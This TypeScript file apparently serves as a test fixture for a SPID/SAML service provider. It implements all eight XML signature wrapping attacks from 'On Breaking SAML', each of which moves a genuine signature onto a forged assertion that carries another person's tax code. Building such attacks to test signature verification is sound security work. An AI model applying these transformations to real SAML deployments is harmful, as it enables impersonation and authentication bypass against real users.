import { at, type Change, isElement, person } from './spid-world.ts'

const response = '/samlp:Response'
const assertion = `${response}/saml:Assertion`

const childOf = (parent: Node, name: string): Element => {
  const child = Array.from(parent.childNodes).find((node) => isElement(node) && node.localName === name)
  if (!child || !isElement(child)) throw new Error(`There is no ${name}.`)
  return child
}

/** Changes the element's identity and ID. */
function evil(element: Element): Element {
  element.setAttribute('ID', '_evil')
  for (const value of Array.from(element.getElementsByTagName('saml:AttributeValue')))
    value.textContent = value.textContent?.replace(person.taxCode, 'VRDLGI75B02F205O') ?? ''
  return element
}

const copyOf = (element: Element): Element => {
  const copy = element.cloneNode(true)
  if (!isElement(copy)) throw new Error('A copy of an element is one.')
  return copy
}

const take = (parent: Element, name: string) => parent.removeChild(childOf(parent, name))

/** Moves the signature from the original to a forged copy. */
function forge(node: Node) {
  if (!isElement(node)) throw new Error('Only elements are signed.')
  const original = copyOf(node)
  take(original, 'Signature')
  return { original, forged: evil(node), signature: childOf(node, 'Signature') }
}

const onAssertion = (work: (node: Element, parent: Element, document: Document) => void): Change =>
  at(assertion, (node, document) => {
    if (isElement(node) && node.parentNode && isElement(node.parentNode)) work(node, node.parentNode, document)
  })

/** The eight signature wrapping attacks of Somorovsky et al., 'On Breaking SAML', by the numbers of the tools. */
export const wrapped = {
  xsw1: at(response, (node) => {
    const { original, signature } = forge(node)
    signature.appendChild(original)
  }),
  xsw2: at(response, (node) => {
    const { original, forged, signature } = forge(node)
    forged.insertBefore(original, signature)
  }),
  xsw3: onAssertion((node, parent) => {
    const forged = evil(copyOf(node))
    take(forged, 'Signature')
    parent.insertBefore(forged, node)
  }),
  xsw4: onAssertion((node, parent) => {
    const forged = evil(copyOf(node))
    take(forged, 'Signature')
    parent.replaceChild(forged, node)
    forged.appendChild(node)
  }),
  xsw5: onAssertion((node, parent) => {
    parent.appendChild(forge(node).original)
  }),
  xsw6: onAssertion((node) => {
    const { original, signature } = forge(node)
    signature.appendChild(original)
  }),
  xsw7: onAssertion((node, parent, document) => {
    const forged = evil(copyOf(node))
    take(forged, 'Signature')
    const extensions = document.createElement('samlp:Extensions')
    extensions.appendChild(forged)
    parent.insertBefore(extensions, node)
  }),
  xsw8: onAssertion((node, _parent, document) => {
    const { original, signature } = forge(node)
    const object = document.createElement('ds:Object')
    object.appendChild(original)
    signature.appendChild(object)
  }),
} satisfies Record<string, Change>
